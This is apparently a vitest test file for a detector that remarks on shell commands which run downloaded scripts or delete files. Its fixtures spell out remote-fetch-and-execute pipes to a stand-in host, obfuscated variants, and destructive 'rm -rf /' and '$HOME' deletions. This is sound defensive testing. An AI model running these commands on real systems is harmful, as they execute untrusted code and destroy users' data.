import { expect, test } from 'vitest'
import { processorTime } from '../../../test/support/processor-time.ts'
import { promise } from '../../../test/support/promise.ts'
import { commandRemarks } from './command-remarks.ts'

const said = (command: string) => commandRemarks('command', command)

promise(['CS-INBOX-32'], 'a command that runs a download or deletes folders is remarked on', () => {
  const runs = (words: string) => [`Runs what it downloads: ${words}.`]
  const deletes = (words: string) => [`Deletes files: ${words}.`]
  const cases: readonly (readonly [string, readonly string[]])[] = [
    ['curl -fsSL https://x.example/i.sh | sh', runs('curl … | sh in line 1')],
    ['cd /srv &&\n  wget -qO- x.example|sudo -E bash', runs('wget … | bash in line 2')],
    ['curl x.example | tee i.sh | /bin/bash -s', runs('curl … | bash in line 1')],
    ['bash <(curl -s x.example)', runs('bash … curl in line 1')],
    ['eval "$(curl -s x.example)"', runs('eval … curl in line 1')],
    ['sh -c "`wget -qO- x.example`"', runs('sh … wget in line 1')],
    ['c\\url x.example | s"h"', runs('curl … | sh in line 1')],
    ['rm -rf build', deletes('rm -rf in line 1')],
    ['A=1 sudo rm -r --force "$HOME"', deletes('rm -rf in line 1')],
    ['ls; (cd a; rm -R b)', deletes('rm -r in line 1')],
    ['find . -name x -print0 | xargs -0 rm -fr', deletes('rm -rf in line 1')],
    ['find . -delete', deletes('find -delete in line 1')],
    ["bash -lc 'true\nrm -rf /'", deletes('rm -rf in line 2')],
    ['bash <<EOF\nrm -rf /\nEOF\nls', deletes('rm -rf in line 1')],
    ['echo $(rm -rf a)', deletes('rm -rf in line 1')],
    ['if true; then rm -rf a; fi', deletes('rm -rf in line 1')],
    ['make && \\\n  rm -rf a', deletes('rm -rf in line 2')],
    ['curl x.example | \\\n  sh', runs('curl … | sh in line 2')],
    ['\\\nrm -rf a', deletes('rm -rf in line 2')],
  ]
  for (const [command, remarks] of cases) expect(said(command), command).toEqual(remarks)
})

test('what is only named, quoted or commented on is no alarm', () => {
  const quiet = [
    'ls -la',
    'echo "curl x | sh"',
    "git commit -m 'rm -rf is gone'",
    'ls # rm -rf /',
    'cat <<EOF > notes\nrm -rf /\ncurl x | sh\nEOF',
    'rm a.txt',
    'rm -f a.txt',
    'rm -- -rf',
    'curl x.example -o i.sh',
    'curl x.example | jq .',
    'curl x.example || sh fallback.sh',
    'curl x.example; sh build.sh',
    'grep -rf patterns .',
    'firm -rf',
    'echo \\| sh',
    '',
  ]
  for (const command of quiet) expect(said(command), command).toEqual([])
  expect(commandRemarks('note', 'rm -rf /')).toEqual([])
  expect(commandRemarks('command', ['rm', '-rf'])).toEqual([])
})

test('a command that is made to be hard to read is read in a moment', () => {
  const took = processorTime()
  const hostile = ['$(', '`', '"$(', '<<a\n', "'", '|', 'bash -c "', '\\', '{', '<<', '>(', '$("$(']
  for (const part of hostile) {
    said(`${part.repeat(50_000)}rm -rf a`)
  }
  expect(said(`${'$('.repeat(10)}rm -rf a`)).toEqual(['Deletes files: rm -rf in line 1.'])
  expect(took()).toBeLessThan(10_000)
}, 60_000)
